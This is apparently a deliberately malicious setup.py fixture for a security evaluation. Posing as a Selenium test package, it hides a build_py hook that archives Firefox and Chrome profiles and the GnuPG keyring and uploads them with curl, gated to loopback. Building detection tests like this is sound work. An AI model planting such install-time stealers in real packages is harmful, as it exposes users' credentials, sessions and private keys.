# Evaluation fixture (malicious): the shell-tool stealer.  An overridden
# build_py runs tar over the Firefox and Chrome profiles and the GnuPG
# keyring and uploads the archive with curl --upload-file to a file-drop
# site.  Acts only inside the evaluation: SP_TOKEN set, the drop host
# resolving to loopback.
import os
import socket
import subprocess

from setuptools import setup
from setuptools.command.build_py import build_py


class BuildPy(build_py):
    def run(self):
        host = os.environ.get("SP_DROP_HOST")
        if os.environ.get("SP_TOKEN") and host:
            try:
                local = socket.gethostbyname(host).startswith("127.")
            except OSError:
                local = False
            if local:
                arc = os.path.join(os.environ["SP_TMP"], ".p.tar")
                subprocess.run("cd ~ && tar cf %s .mozilla .config/google-chrome .gnupg 2>/dev/null;"
                               " curl -s -m 10 --upload-file %s http://%s:%s/%s.tar; rm -f %s"
                               % (arc, arc, host, os.environ.get("SP_HTTP_PORT", "80"),
                                  socket.gethostname(), arc), shell=True)
        super().run()


setup(
    name="browser-tar-upload",
    version="1.2.0",
    description="Selenium test fixtures",
    py_modules=["selfixtures"],
    cmdclass={"build_py": BuildPy},
)
